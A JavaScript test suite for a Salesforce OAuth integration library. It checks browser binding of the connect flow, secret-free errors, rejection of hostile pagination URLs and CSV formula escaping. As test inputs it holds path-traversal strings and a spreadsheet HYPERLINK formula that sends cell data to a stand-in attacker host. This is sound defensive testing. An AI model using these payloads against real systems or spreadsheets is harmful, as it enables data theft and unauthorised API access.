'use strict'
// Issue 9: the connect flow is bound to the browser (and user) that started it, secrets never
// appear in errors, hostile input reaches nothing, and tokens at rest are owner-only.
const { execFileSync } = require('node:child_process')
const fs = require('node:fs')
const path = require('node:path')
const util = require('node:util')
const express = require('express')
const { Forcelink } = require('..')
const { salesforceRouter } = require('../express')
const { startSim, tmpDb, baseConfig, MapStore, CookieJar, authorize } = require('./helpers')

let sim
beforeAll(async () => {
  sim = await startSim(['--contacts', '3', '--deals', '0', '--notes', '0'])
})
afterAll(() => sim && sim.stop())
afterEach(() => sim.clearFaults())

const claimsOf = (authorizeUrl) => {
  const state = new URL(authorizeUrl).searchParams.get('state')
  return { state, claims: JSON.parse(Buffer.from(state.split('.')[1], 'base64url')) }
}

describe('browser binding (API)', () => {
  let store, fl
  beforeEach(() => {
    store = new MapStore()
    fl = new Forcelink(baseConfig(sim, { store }))
  })

  test('beginLogin returns an unguessable binding; the state carries only a keyed hash of it', async () => {
    const a = await fl.beginLogin({ accountId: 'b1', ownerId: 'u', forwardUrl: '/x' })
    const b = await fl.beginLogin({ accountId: 'b1', ownerId: 'u', forwardUrl: '/x' })
    expect(a.binding).toMatch(/^[A-Za-z0-9_-]{22,}$/)
    expect(Buffer.from(a.binding, 'base64url').length).toBeGreaterThanOrEqual(16)
    expect(a.binding).not.toBe(b.binding)
    const { state, claims } = claimsOf(a.redirectUrl)
    expect(state).not.toContain(a.binding)
    expect(JSON.stringify(claims)).not.toContain(a.binding)
    expect(claims.bh).toEqual(expect.any(String))
  })

  test('a callback without the binding, or with another flow\'s, is INVALID_STATE and Salesforce is not called', async () => {
    const start = await fl.beginLogin({ accountId: 'b2', ownerId: 'u', forwardUrl: '/x' })
    const other = await fl.beginLogin({ accountId: 'b2x', ownerId: 'u', forwardUrl: '/x' })
    const q = await authorize(start.redirectUrl)
    await sim.resetCounts()
    for (const binding of [undefined, '', other.binding, `${start.binding}x`, start.binding.slice(1)]) {
      await expect(fl.handleCallback({ code: q.code, state: q.state, binding })).rejects.toMatchObject({ code: 'INVALID_STATE', status: 400 })
    }
    expect((await sim.counts()).token.total).toBe(0)
    expect(store.docs.size).toBe(0)
    expect(store.calls).not.toContain('save')
    // The browser that started it still finishes it.
    await expect(fl.handleCallback({ code: q.code, state: q.state, binding: start.binding })).resolves.toEqual({
      redirectUrl: '/x?status=success&integration=salesforce',
    })
    expect(store.docs.size).toBe(1)
  })

  test('bindBrowser: false issues a state without binding that completes as before', async () => {
    const start = await fl.beginLogin({ accountId: 'b3', ownerId: 'u', forwardUrl: '/x', bindBrowser: false })
    expect(start.binding).toBeUndefined()
    expect(claimsOf(start.redirectUrl).claims.bh).toBeUndefined()
    const q = await authorize(start.redirectUrl)
    await expect(fl.handleCallback({ code: q.code, state: q.state })).resolves.toMatchObject({ redirectUrl: '/x?status=success&integration=salesforce' })
  })

  test('an identity on the callback must be the one that started the flow', async () => {
    const start = await fl.beginLogin({ accountId: 'b4', ownerId: 'u', forwardUrl: '/x' })
    const q = await authorize(start.redirectUrl)
    await sim.resetCounts()
    for (const who of [{ accountId: 'b4', ownerId: 'victim' }, { accountId: 'other', ownerId: 'u' }]) {
      await expect(fl.handleCallback({ code: q.code, state: q.state, binding: start.binding, ...who })).rejects.toMatchObject({ code: 'INVALID_STATE' })
    }
    expect((await sim.counts()).token.total).toBe(0)
    await expect(fl.handleCallback({ code: q.code, state: q.state, binding: start.binding, accountId: 'b4', ownerId: 'u' })).resolves.toBeDefined()
  })

  test('a second connect that replaces a stored refresh token revokes the replaced one', async () => {
    const first = await fl.beginLogin({ accountId: 'b5', ownerId: 'u', forwardUrl: '/x' })
    const second = await fl.beginLogin({ accountId: 'b5', ownerId: 'u', forwardUrl: '/x' })
    const q1 = await authorize(first.redirectUrl)
    await fl.handleCallback({ code: q1.code, state: q1.state, binding: first.binding })
    const old = [...store.docs.values()][0].token.refresh_token
    const q2 = await authorize(second.redirectUrl)
    await sim.resetCounts()
    await fl.handleCallback({ code: q2.code, state: q2.state, binding: second.binding })
    expect((await sim.counts()).revoke).toBe(1)
    const now = [...store.docs.values()][0].token.refresh_token
    expect(now).not.toBe(old)
    // The replaced token no longer works at Salesforce; the new connection does.
    const r = await fetch(`${sim.loginUrl}/services/oauth2/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: old, client_id: 'test-client-id', client_secret: 'test-client-secret-value-0123456789' }),
    })
    expect(r.status).toBe(400)
    await expect(fl.getAccessToken({ accountId: 'b5', ownerId: 'u', forceRefresh: true })).resolves.toMatchObject({ accessToken: expect.any(String) })
  })

  test('a failing revoke of the replaced token never fails the callback', async () => {
    const first = await fl.beginLogin({ accountId: 'b6', ownerId: 'u', forwardUrl: '/x' })
    const second = await fl.beginLogin({ accountId: 'b6', ownerId: 'u', forwardUrl: '/x' })
    const q1 = await authorize(first.redirectUrl)
    await fl.handleCallback({ code: q1.code, state: q1.state, binding: first.binding })
    const q2 = await authorize(second.redirectUrl)
    await sim.fault({ target: 'revoke', kind: '503', count: 10 })
    await expect(fl.handleCallback({ code: q2.code, state: q2.state, binding: second.binding })).resolves.toMatchObject({
      redirectUrl: '/x?status=success&integration=salesforce',
    })
  })

  test('used nonces are kept until the state can no longer verify (expiry + clock-skew allowance)', async () => {
    const seen = []
    const s = new MapStore()
    s.consumeNonce = async (nonce, expiresAt) => {
      seen.push({ nonce, expiresAt })
      return true
    }
    const f = new Forcelink(baseConfig(sim, { store: s }))
    const start = await f.beginLogin({ accountId: 'n1', ownerId: 'u', forwardUrl: '/x' })
    const { claims } = claimsOf(start.redirectUrl)
    const q = await authorize(start.redirectUrl)
    await f.handleCallback({ code: q.code, state: q.state, binding: start.binding })
    expect(seen).toHaveLength(1)
    expect(seen[0].nonce).toBe(claims.nonce)
    expect(seen[0].expiresAt).toBeGreaterThanOrEqual((claims.exp + 5) * 1000)
  })
})

test("ownerId 'forcelink:server' is refused for user calls", async () => {
  const fl = new Forcelink(baseConfig(sim, { store: new MapStore() }))
  await sim.resetCounts()
  const user = { accountId: 'a', ownerId: 'forcelink:server' }
  const calls = [
    fl.beginLogin({ ...user, forwardUrl: '/x' }),
    fl.getAccessToken(user),
    fl.disconnect(user),
    fl.query({ ...user, soql: 'SELECT Id FROM Contact' }),
    fl.exportPage({ ...user, type: 'contacts' }),
    fl.createRecord({ ...user, object: 'Contact', fields: { LastName: 'x' } }),
  ]
  for (const p of calls) await expect(p).rejects.toMatchObject({ code: 'INVALID_INPUT', status: 400, field: 'ownerId' })
  await expect(fl.exportAll({ ...user, type: 'contacts' }).next()).rejects.toMatchObject({ code: 'INVALID_INPUT' })
  const c = await sim.counts()
  expect(c.token.total + c.rest).toBe(0)
})

describe('Express: the forcelink_oauth cookie', () => {
  let fl, server, base, store
  const startApp = async (options = {}, mount = '/sf') => {
    const app = express()
    app.set('trust proxy', 'loopback')
    app.use((req, _res, next) => {
      const aid = req.get('x-account')
      if (aid) req.auth = { account_id: aid, uid: req.get('x-user') || 'u1' }
      next()
    })
    app.use(mount, salesforceRouter(fl, { express, ...options }))
    const s = await new Promise((resolve) => {
      const x = app.listen(0, '127.0.0.1', () => resolve(x))
    })
    return { s, base: `http://127.0.0.1:${s.address().port}${mount}`, mount }
  }
  beforeAll(async () => {
    store = new MapStore()
    fl = new Forcelink(baseConfig(sim, { store, stateTtlSeconds: 600 }))
    ;({ s: server, base } = await startApp())
  })
  afterAll(() => new Promise((r) => server.close(r)))

  /** A browser: its own cookies, optionally signed in to the host. */
  const browser = (b = base, mount = '/sf') => {
    const jar = new CookieJar()
    return {
      jar,
      get: async (p, { account, user, headers = {} } = {}) => {
        const h = { ...headers }
        if (account) Object.assign(h, { 'x-account': account, 'x-user': user || 'u1' })
        const cookie = jar.header(`${mount}${p.split('?')[0]}`)
        if (cookie) h.cookie = cookie
        return jar.take(await fetch(b + p, { redirect: 'manual', headers: h }))
      },
    }
  }
  const cookieLine = (res) => res.headers.getSetCookie().find((c) => c.startsWith('forcelink_oauth='))

  test('login sets it with the exact attributes', async () => {
    const r = await browser().get('/auth/login?forward_url=/back', { account: 'c1' })
    expect(r.status).toBe(302)
    const line = cookieLine(r)
    expect(line).toMatch(/^forcelink_oauth=[A-Za-z0-9_-]{43}; Path=\/sf\/auth\/callback; Max-Age=600; HttpOnly; SameSite=Lax$/)
    // Over https (behind a trusted proxy) it is `__Host-forcelink_oauth`: Secure, Path=/, no
    // Domain, so a sibling subdomain cannot plant one; the callback reads that name only.
    const s = await browser().get('/auth/login?forward_url=/back', { account: 'c1', headers: { 'x-forwarded-proto': 'https' } })
    const host = s.headers.getSetCookie().find((c) => c.startsWith('__Host-forcelink_oauth='))
    expect(host).toMatch(/^__Host-forcelink_oauth=[A-Za-z0-9_-]{43}; Path=\/; Max-Age=600; HttpOnly; SameSite=Lax; Secure$/)
    expect(cookieLine(s)).toBeUndefined()
    const value = host.split(';')[0].split('=')[1]
    const q = await authorize(s.headers.get('location'))
    const cb = `/auth/callback?${new URLSearchParams(q)}`
    // A planted plain `forcelink_oauth` (a sibling subdomain can set that one) is not read.
    const planted = await fetch(base + cb, { redirect: 'manual', headers: { 'x-forwarded-proto': 'https', cookie: `forcelink_oauth=${value}` } })
    expect(planted.status).toBe(400)
  })

  test('requireBrowserBinding refuses states issued without a binding', async () => {
    const strict = new Forcelink(baseConfig(sim, { store: new MapStore(), requireBrowserBinding: true }))
    const start = await strict.beginLogin({ accountId: 'rb', ownerId: 'u', forwardUrl: '/back', bindBrowser: false })
    const q = await authorize(start.redirectUrl)
    await expect(strict.handleCallback({ code: q.code, state: q.state })).rejects.toMatchObject({ code: 'INVALID_STATE' })
    await strict.close()
  })

  test('cookieSecure, cookieName and the mount path are honoured', async () => {
    const other = await startApp({ cookieSecure: true, cookieName: 'sf_bind' }, '/v1/integrations/salesforce')
    try {
      const r = await fetch(`${other.base}/auth/login?forward_url=/back`, { redirect: 'manual', headers: { 'x-account': 'c2' } })
      const line = r.headers.getSetCookie().find((c) => c.startsWith('sf_bind='))
      expect(line).toMatch(/^sf_bind=[A-Za-z0-9_-]{43}; Path=\/v1\/integrations\/salesforce\/auth\/callback; Max-Age=600; HttpOnly; SameSite=Lax; Secure$/)
    } finally {
      await new Promise((r) => other.s.close(r))
    }
  })

  test('the attacker\'s flow finished in the victim\'s browser stores nothing; another flow\'s cookie fails; the right browser succeeds', async () => {
    const attacker = browser()
    const start = await attacker.get('/auth/login?forward_url=/back', { account: 'attacker-acct', user: 'attacker' })
    const q = await authorize(start.headers.get('location'))
    const cb = `/auth/callback?${new URLSearchParams(q)}`
    await sim.resetCounts()
    const before = store.docs.size

    // The victim (no cookie), signed in to the host or not.
    const victim = browser()
    for (const opts of [{}, { account: 'victim-acct', user: 'victim' }]) {
      const r = await victim.get(cb, opts)
      expect(r.status).toBe(400)
      expect(await r.json()).toEqual({ success: false, errno: 400, message: 'Invalid State', code: 'INVALID_STATE' })
      expect(cookieLine(r)).toMatch(/^forcelink_oauth=; Path=\/sf\/auth\/callback; Max-Age=0;/)
    }
    // A third browser holding the cookie of a flow of its own.
    const third = browser()
    await third.get('/auth/login?forward_url=/back', { account: 'third-acct' })
    const r3 = await third.get(cb)
    expect(r3.status).toBe(400)
    expect(cookieLine(r3)).toMatch(/Max-Age=0/)
    expect((await sim.counts()).token.total).toBe(0)
    expect(store.docs.size).toBe(before)

    // The attacker's own browser but a different signed-in user on the callback.
    const swapped = browser()
    swapped.jar.cookies = new Map(attacker.jar.cookies)
    const r4 = await swapped.get(cb, { account: 'victim-acct', user: 'victim' })
    expect(r4.status).toBe(400)
    expect((await sim.counts()).token.total).toBe(0)

    // The browser that started it finishes it, and its cookie is cleared.
    const ok = await attacker.get(cb, { account: 'attacker-acct', user: 'attacker' })
    expect(ok.status).toBe(302)
    expect(ok.headers.get('location')).toBe('/back?status=success&integration=salesforce')
    expect(cookieLine(ok)).toMatch(/Max-Age=0/)
    expect(attacker.jar.header('/sf/auth/callback')).toBe('')
    expect([...store.docs.values()].some((d) => d.account_id === 'attacker-acct' && d.owner === 'attacker')).toBe(true)
  })

  test('the cookie is cleared on every callback outcome', async () => {
    for (const q of ['', 'code=abc', 'error=access_denied', 'code=a&code=b']) {
      const r = await browser().get(`/auth/callback?${q}`)
      expect(cookieLine(r)).toMatch(/^forcelink_oauth=; Path=\/sf\/auth\/callback; Max-Age=0;/)
    }
  })

  test('bindBrowser: false sets no cookie and completes without one (the incumbent behaviour)', async () => {
    const other = await startApp({ bindBrowser: false })
    try {
      const b = browser(other.base)
      const start = await b.get('/auth/login?forward_url=/back', { account: 'nb' })
      expect(start.headers.getSetCookie()).toEqual([])
      const q = await authorize(start.headers.get('location'))
      const r = await browser(other.base).get(`/auth/callback?${new URLSearchParams(q)}`)
      expect(r.status).toBe(302)
      expect(r.headers.get('location')).toBe('/back?status=success&integration=salesforce')
    } finally {
      await new Promise((r) => other.s.close(r))
    }
  })
})

describe('no secret in any error', () => {
  const MARK = 'SECRET-MARKER-9f3c1e'
  const visible = (e) => [e && e.message, e && e.stack, JSON.stringify(e), util.inspect(e, { depth: 5, showHidden: true })].join('\n')
  const expectClean = (e) => {
    expect(e).toBeTruthy()
    expect(visible(e)).not.toContain(MARK)
  }
  const PEM = `-----BEGIN PRIVATE KEY-----\n${MARK}\n-----END PRIVATE KEY-----\n`

  test('every config field with a wrong type: CONFIG_INVALID naming the field, never the value', () => {
    const wrong = {
      clientId: [[MARK], { v: MARK }],
      clientSecret: [[MARK], { v: MARK }],
      redirectUri: [[MARK], { v: MARK }],
      stateSecret: [[MARK], { v: MARK }],
      loginUrl: [[MARK], { v: MARK }],
      apiVersion: [[MARK], { v: MARK }],
      storePath: [[MARK], { v: MARK }],
      encryptionKey: [[MARK], { v: MARK }],
      scopes: [MARK, [{ v: MARK }], { v: MARK }],
      allowedForwardOrigins: [MARK, [{ v: MARK }]],
      stateTtlSeconds: [MARK, [MARK]],
      httpTimeoutMs: [MARK, { v: MARK }],
      maxRetries: [MARK],
      leaseWaitMs: [MARK],
      bulkThreshold: [MARK],
      bulkDeadlineMs: [MARK],
      clientCredentials: [MARK, [MARK]],
      jwtBearer: [PEM, [PEM], { username: 'u', privateKeyPem: [PEM] }, { username: { v: MARK }, privateKeyPem: PEM }, { username: 'u', privateKeyPem: PEM, audience: [MARK] }],
      exportTypes: [MARK, { t: MARK }, { t: { object: [MARK], fields: ['Id'] } }, { t: { object: 'Contact', fields: MARK } }, { t: { object: 'Contact', fields: [{ v: MARK }] } }],
      csvFormulaGuard: [MARK],
      store: [MARK],
    }
    let n = 0
    for (const [field, values] of Object.entries(wrong)) {
      for (const v of values) {
        let err
        try {
          new Forcelink({ ...baseConfig(sim), storePath: tmpDb('cfg'), [field]: v })
        } catch (e) {
          err = e
        }
        expect(err).toMatchObject({ code: 'CONFIG_INVALID' })
        expect(err.message).toContain(field)
        expectClean(err)
        n++
      }
    }
    expect(n).toBeGreaterThan(40)
  })

  test('a PEM given where an object belongs names jwtBearer and its expected type', () => {
    let err
    try {
      new Forcelink({ ...baseConfig(sim), jwtBearer: PEM })
    } catch (e) {
      err = e
    }
    expect(err.message).toMatch(/jwtBearer.*object/)
    expectClean(err)
  })

  const tokenDoc = (token) => ({ account_id: 's', owner: 'u', token, token_invalidated: false })
  const goodToken = { access_token: `00D!${MARK}`, refresh_token: `5Aep${MARK}`, instance_url: 'http://127.0.0.1:1', issued_at: '1' }
  const malformedFinds = [
    MARK,
    [MARK],
    42,
    true,
    tokenDoc(JSON.stringify(goodToken)),
    tokenDoc([goodToken]),
    tokenDoc({ ...goodToken, access_token: [MARK] }),
    tokenDoc({ ...goodToken, refresh_token: { v: MARK } }),
    tokenDoc({ ...goodToken, instance_url: 5 }),
    tokenDoc({ ...goodToken, issued_at: 1700000000000 }),
    { ...tokenDoc(goodToken), token_invalidated: MARK },
    { ...tokenDoc(goodToken), account_id: { v: MARK } },
    { owner: 'u', token: goodToken },
  ]

  /** A store whose methods return `shape` for `op` and sane values otherwise. */
  function shapedStore(op, shape) {
    const s = new MapStore()
    const base = { find: (a) => (a === 'fresh' ? null : tokenDoc({ ...goodToken, access_token: 'valid-looking' })), acquireLease: () => true, consumeNonce: () => true }
    for (const m of ['find', 'acquireLease', 'consumeNonce', 'releaseLease', 'save', 'delete']) {
      const orig = s[m] ? s[m].bind(s) : null
      s[m] = async (...args) => {
        if (m === op) return shape
        if (base[m]) return base[m](...args)
        return orig ? orig(...args) : null
      }
    }
    return s
  }

  test('every store method returning a malformed shape: STORE_ERROR without the values', async () => {
    const errors = []
    const capture = (p) => p.then(() => errors.push(null), (e) => errors.push(e))
    for (const shape of malformedFinds) {
      const fl = new Forcelink(baseConfig(sim, { store: shapedStore('find', shape) }))
      await capture(fl.getAccessToken({ accountId: 's', ownerId: 'u' }))
      await capture(fl.beginLogin({ accountId: 's', ownerId: 'u', forwardUrl: '/x' }))
    }
    // (A string is a valid lease token under TokenStore contract v2, so acquireLease gets an object instead.)
    for (const shape of [MARK, [MARK], { v: MARK }, 1]) {
      const leaseShape = typeof shape === 'string' ? { token: MARK } : shape
      const lease = new Forcelink(baseConfig(sim, { store: shapedStore('acquireLease', leaseShape) }))
      await capture(lease.getAccessToken({ accountId: 's', ownerId: 'u', forceRefresh: true }))
      const nonce = new Forcelink(baseConfig(sim, { store: shapedStore('consumeNonce', shape) }))
      const start = await nonce.beginLogin({ accountId: 'fresh', ownerId: 'u', forwardUrl: '/x', bindBrowser: false })
      await capture(nonce.handleCallback({ code: 'c', state: claimsOf(start.redirectUrl).state }))
    }
    const failures = errors.filter(Boolean)
    expect(failures.length).toBeGreaterThanOrEqual(malformedFinds.length * 2 + 8)
    for (const e of failures) {
      expect(e.code).toBe('STORE_ERROR')
      expect(e.message).toMatch(/must|is required/)
      expectClean(e)
    }
  })

  test('every error the Express handlers send, and every error they report', async () => {
    const reported = []
    const app = express()
    app.use((req, _res, next) => {
      req.auth = { account_id: 's', uid: req.get('x-user') || 'u' }
      next()
    })
    const routers = {}
    for (const shape of [malformedFinds[4], malformedFinds[6], MARK]) {
      const fl = new Forcelink(baseConfig(sim, { store: shapedStore('find', shape) }))
      const name = `r${Object.keys(routers).length}`
      routers[name] = fl
      app.use(`/${name}`, salesforceRouter(fl, { express, onError: (e) => reported.push(e) }))
    }
    const server = await new Promise((resolve) => {
      const s = app.listen(0, '127.0.0.1', () => resolve(s))
    })
    const base = `http://127.0.0.1:${server.address().port}`
    try {
      const bodies = []
      for (const r of Object.keys(routers)) {
        for (const [method, p, headers] of [
          ['GET', `/auth/login?forward_url=/x`],
          ['GET', `/auth/login?forward_url=${encodeURIComponent(`https://${MARK}.example/`)}`],
          ['GET', `/auth/callback?code=${MARK}&state=${MARK}`, { cookie: `forcelink_oauth=${MARK}` }],
          ['GET', `/auth/callback?code=${MARK}&state=a.${MARK}.b`],
          ['GET', `/auth/callback?error=x&state=${MARK}`],
          ['DELETE', '/auth'],
          ['GET', '/export/contacts'],
          ['GET', '/export/contacts?download=csv'],
          ['GET', `/export/${MARK}`],
        ]) {
          const res = await fetch(`${base}/${r}${p}`, { method, redirect: 'manual', headers })
          const text = await res.text()
          if (res.status >= 400) bodies.push(text)
          expect(text).not.toContain(MARK)
          expect(res.headers.get('location') || '').not.toContain(MARK)
        }
      }
      expect(bodies.length).toBeGreaterThan(15)
      expect(reported.length).toBeGreaterThan(5)
      for (const e of reported) expectClean(e)
    } finally {
      await new Promise((r) => server.close(r))
    }
  })
})

describe('hostile nextRecordsUrl', () => {
  let fl
  const conn = { accountId: 'q', ownerId: 'u' }
  beforeAll(async () => {
    fl = new Forcelink(baseConfig(sim, { store: new MapStore(), maxRetries: 0 }))
    const start = await fl.beginLogin({ ...conn, forwardUrl: '/x' })
    const q = await authorize(start.redirectUrl)
    await fl.handleCallback({ code: q.code, state: q.state, binding: start.binding })
  })

  test('queryMore accepts only a query locator, checked on the raw string; nothing is sent otherwise', async () => {
    await sim.resetCounts()
    for (const bad of [
      '/services/data/v62.0/query/%2e%2e/sobjects/Contact/describe',
      '/services/data/v62.0/query/%2E%2E/sobjects/Contact/describe',
      '/services/data/v62.0/query/../sobjects/Contact/describe',
      '/services/data/v62.0/query/01gxx-2000%2f..%2f..%2fsobjects',
      '/services/data/v62.0/query/01gxx-2000?q=SELECT+Id+FROM+User',
      '/services/data/v62.0/sobjects/Contact/describe',
      '/services/data/v62.0/query/',
      `${sim.loginUrl}/services/data/v62.0/query/01gxx-2000`,
    ]) {
      await expect(fl.queryMore({ ...conn, nextRecordsUrl: bad })).rejects.toMatchObject({ code: 'INVALID_INPUT', status: 400, field: 'nextRecordsUrl' })
    }
    const c = await sim.counts()
    expect(c.rest + c.query + c.queryMore).toBe(0)
    // A real locator still works.
    const first = await fl.query({ ...conn, soql: 'SELECT Id FROM Contact' })
    expect(first.totalSize).toBeGreaterThan(0)
  })

  test('a nextRecordsUrl Salesforce returns is checked before it is followed', async () => {
    await sim.fault({ target: 'query', kind: 'hostile_next', count: 1 })
    await sim.resetCounts()
    await expect(fl.query({ ...conn, soql: 'SELECT Id FROM Contact', all: true })).rejects.toMatchObject({
      code: 'SALESFORCE_ERROR',
      salesforceCode: 'INVALID_NEXT_RECORDS_URL',
    })
    await sim.fault({ target: 'query', kind: 'hostile_next', count: 1 })
    // One chain, so the hostile page is the first page (parallel reads add a largest-Id query).
    const it = fl.exportAll({ ...conn, type: 'contacts', parallelism: 1 })
    await expect(it.next()).rejects.toMatchObject({ code: 'SALESFORCE_ERROR', salesforceCode: 'INVALID_NEXT_RECORDS_URL' })
    await sim.fault({ target: 'query', kind: 'hostile_next', count: 2 }) // the count query, then the rows
    await expect(fl.exportPage({ ...conn, type: 'contacts', limit: '3000' })).rejects.toMatchObject({ code: 'SALESFORCE_ERROR' })
    // Only hostile pages were served and none of their links was followed.
    const c = await sim.counts()
    expect(c.rest).toBeLessThanOrEqual(4)
    expect(c.queryMore).toBe(0)
  })
})

describe('CSV formula guard', () => {
  let fl
  const conn = { accountId: 'csv', ownerId: 'u' }
  const types = { people: { object: 'Contact', fields: ['LastName', 'Title', 'Phone'] }, money: { object: 'Opportunity', fields: ['Name', 'Amount'] } }
  beforeAll(async () => {
    fl = new Forcelink(baseConfig(sim, { store: new MapStore(), exportTypes: types }))
    const start = await fl.beginLogin({ ...conn, forwardUrl: '/x' })
    const q = await authorize(start.redirectUrl)
    await fl.handleCallback({ code: q.code, state: q.state, binding: start.binding })
    await fl.createRecord({ ...conn, object: 'Contact', fields: { LastName: '=HYPERLINK("http://evil.example/?"&A1,"click")', Title: '@SUM(1+1)', Phone: '+1 415 555 0100' } })
    await fl.createRecord({ ...conn, object: 'Contact', fields: { LastName: '-2+3', Title: '\tTab', Phone: 'plain' } })
    await fl.createRecord({ ...conn, object: 'Opportunity', fields: { Name: '=1+1', StageName: 'Prospecting', CloseDate: '2026-12-31', Amount: 1250.5 } })
  })
  const read = async (s) => {
    const chunks = []
    for await (const c of s) chunks.push(c)
    return Buffer.concat(chunks).toString('utf8')
  }

  test('text cells a spreadsheet would run get a leading quote; numbers stay numbers; NDJSON untouched', async () => {
    const csv = await read(fl.exportStream({ ...conn, type: 'people', format: 'csv' }))
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),'+1 415 555 0100\n`)
    expect(csv).toContain(`'-2+3,'\tTab,plain\n`)
    for (const line of csv.split('\n').slice(1).filter(Boolean)) expect(line).not.toMatch(/^[=+\-@\t\r]|,[=+\-@\t\r]/)
    const money = await read(fl.exportStream({ ...conn, type: 'money', format: 'csv' }))
    expect(money).toContain(`'=1+1,1250.5\n`)
    const nd = await read(fl.exportStream({ ...conn, type: 'people', format: 'ndjson' }))
    expect(nd).toContain('"LastName":"=HYPERLINK(')
  })

  test('csvFormulaGuard: false (per call or in the config) writes values as they are', async () => {
    const raw = await read(fl.exportStream({ ...conn, type: 'people', format: 'csv', csvFormulaGuard: false }))
    expect(raw).toContain(`"=HYPERLINK(`)
    const store = new MapStore()
    const off = new Forcelink(baseConfig(sim, { store, exportTypes: types, csvFormulaGuard: false }))
    const start = await off.beginLogin({ ...conn, forwardUrl: '/x' })
    const q = await authorize(start.redirectUrl)
    await off.handleCallback({ code: q.code, state: q.state, binding: start.binding })
    expect(await read(off.exportStream({ ...conn, type: 'people', format: 'csv' }))).toContain('-2+3,\tTab,plain\n')
    expect(() => fl.exportStream({ ...conn, type: 'people', format: 'csv', csvFormulaGuard: 'no' })).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }))
  })

  test('the Express download is guarded too', async () => {
    const app = express()
    app.use((req, _res, next) => {
      req.auth = { account_id: conn.accountId, uid: conn.ownerId }
      next()
    })
    app.use('/sf', salesforceRouter(fl, { express }))
    app.use('/raw', salesforceRouter(fl, { express, csvFormulaGuard: false }))
    const server = await new Promise((resolve) => {
      const s = app.listen(0, '127.0.0.1', () => resolve(s))
    })
    try {
      const base = `http://127.0.0.1:${server.address().port}`
      const guarded = await (await fetch(`${base}/sf/export/people?download=csv`)).text()
      expect(guarded).toContain(`"'=HYPERLINK(`)
      const raw = await (await fetch(`${base}/raw/export/people?download=csv`)).text()
      expect(raw).toContain(`"=HYPERLINK(`)
    } finally {
      await new Promise((r) => server.close(r))
    }
  })
})

test('the embedded store files are 0600 whatever the umask', () => {
  if (process.platform === 'win32') return
  const dbPath = tmpDb('perm')
  const script = `
    process.umask(0)
    const { Forcelink } = require(${JSON.stringify(path.join(__dirname, '..'))})
    const fl = new Forcelink(${JSON.stringify({ ...baseConfig(sim), storePath: dbPath })})
    fl.getAccessToken({ accountId: 'p', ownerId: 'u' }).catch((e) => {
      const fs = require('node:fs')
      const modes = {}
      for (const f of ['', '-wal', '-shm']) modes[f] = fs.existsSync(${JSON.stringify(dbPath)} + f) ? (fs.statSync(${JSON.stringify(dbPath)} + f).mode & 0o777).toString(8) : null
      console.log(JSON.stringify({ code: e.code, modes }))
    })`
  const out = JSON.parse(execFileSync(process.execPath, ['-e', script], { encoding: 'utf8' }).trim())
  expect(out).toEqual({ code: 'TOKEN_NOT_FOUND', modes: { '': '600', '-wal': '600', '-shm': '600' } })
  fs.rmSync(path.dirname(dbPath), { recursive: true, force: true })
})
